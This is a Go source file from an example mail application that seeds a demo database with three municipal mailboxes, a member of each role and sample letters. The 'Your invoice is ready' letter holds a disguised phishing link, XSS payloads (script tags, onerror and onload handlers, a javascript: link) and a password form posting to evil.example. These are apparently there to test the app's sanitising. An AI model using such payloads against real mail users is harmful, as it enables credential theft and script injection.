package main

import (
	"context"
	"database/sql"
	"encoding/base64"
	"fmt"
	"strings"
	"time"

	"github.com/skans-go/skans/audit"
	"github.com/skans-go/skans/examples/mail/internal/message"
	"github.com/skans-go/skans/examples/mail/internal/store"
)

// seedDemo fills an empty mailbox with mailboxes, a person of each role and letters, hostile ones among them. Nobody gets a
// password: each person's activation link is printed instead. A mailbox that has anything in it is left alone.
func (a *app) seedDemo(ctx context.Context) error {
	boxes, err := a.store.Mailboxes(ctx)
	if err != nil || len(boxes) > 1 { // there is the one of the first start
		return err
	}
	ctx = audit.WithActor(ctx, audit.Job("demo"))
	for i, box := range []store.Mailbox{
		{ID: "bygglov", Address: "bygglov@kommun.example", Name: "Building permits"},
		{ID: "skola", Address: "skola@kommun.example", Name: "Schools"},
		{ID: "kundservice", Address: "kundservice@kommun.example", Name: "Customer service"},
	} {
		if err := a.store.Tx(ctx, func(tx *sql.Tx) error { return a.store.CreateMailbox(ctx, tx, box) }); err != nil {
			return err
		}
		for _, role := range []string{"visitor", "editor", "administrator"} {
			if err := a.seedMember(ctx, box, role); err != nil {
				return err
			}
		}
		for n := range 20 {
			raw := demoLetter(box, i*20+n)
			m, err := message.Parse(ctx, raw)
			if err != nil {
				return err
			}
			if err := a.deliver(ctx, box.ID, nil, raw, m); err != nil {
				return err
			}
		}
	}
	return nil
}

func (a *app) seedMember(ctx context.Context, box store.Mailbox, role string) error {
	person := store.Person{Name: role + "." + box.Address, Display: box.Name + ", " + role, Backend: true}
	return a.addPerson(ctx, person, func(tx *sql.Tx, p store.Person) error {
		return a.addMember(ctx, tx, box.ID, p.ID, role)
	})
}

// demoLetter is the n-th letter to a mailbox.
func demoLetter(box store.Mailbox, n int) []byte {
	kind := demoLetters[n%len(demoLetters)]
	sent := time.Now().Add(-time.Duration(n) * 5 * time.Hour)
	head := fmt.Sprintf("From: Customer %d <customer%d@example.org>\r\nTo: %s\r\nSubject: %s (%d)\r\nDate: %s\r\nMessage-ID: <demo%d@example.org>\r\nMIME-Version: 1.0\r\n",
		n, n, box.Address, kind.subject, n, sent.Format(time.RFC1123Z), n)
	return []byte(head + strings.ReplaceAll(kind.rest, "\n", "\r\n"))
}

var demoLetters = []struct{ subject, rest string }{
	{"Question about my case", "Content-Type: text/plain; charset=utf-8\n\nHello,\n\nwhen will my case be decided? I sent the drawings two weeks ago.\n\nKind regards\n"},
	{"Drawing attached", "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain; charset=utf-8\n\nThe drawing that you asked for.\n--b\n" +
		"Content-Type: text/csv\nContent-Disposition: attachment; filename=\"measures.csv\"\n\nroom;m2\nhall;8\nkitchen;14\n--b--\n"},
	{"Newsletter with pictures", "Content-Type: text/html; charset=utf-8\n\n<table width=\"100%\" bgcolor=\"#eef3f8\"><tr><td align=\"center\"><h1 style=\"color:#1b4f72\">News of the month</h1>" +
		"<img src=\"https://tracker.example/open.gif?id=42\" width=\"1\" height=\"1\" alt=\"\"><img src=\"https://cdn.example/banner.png\" alt=\"Banner\">" +
		"<p style=\"font-family:Georgia\">All the news, with <a href=\"https://news.example/1\">a link</a>.</p></td></tr></table>\n"},
	{"Your invoice is ready", "Content-Type: text/html; charset=utf-8\n\n<p>Dear customer, sign in at <a href=\"https://evil.example/login\">https://bank.example/login</a>.</p>" +
		"<script>alert(document.domain)</script><img src=x onerror=\"alert(1)\"><form action=\"https://evil.example\"><input name=\"password\"><button>Sign in</button></form>" +
		"<style>body{display:none}</style><svg onload=\"alert(2)\"></svg><a href=\"javascript:alert(3)\">click</a></div></div></body><h1>outside?</h1>\n"},
	{"Picture inside the letter", "Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html; charset=utf-8\n\n<p>The house:</p><img src=\"cid:house\" alt=\"The house\">\n--b\n" +
		"Content-Type: image/png\nContent-ID: <house>\nContent-Transfer-Encoding: base64\nContent-Disposition: inline; filename=house.png\n\n" + base64.StdEncoding.EncodeToString(demoPicture) + "\n--b--\n"},
	{"Letter that breaks off", "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain; charset=utf-8\n\nThis letter lost its end on the way"},
}

// demoPicture is the smallest picture there is: one pixel.
var demoPicture = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89" +
	"\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82")
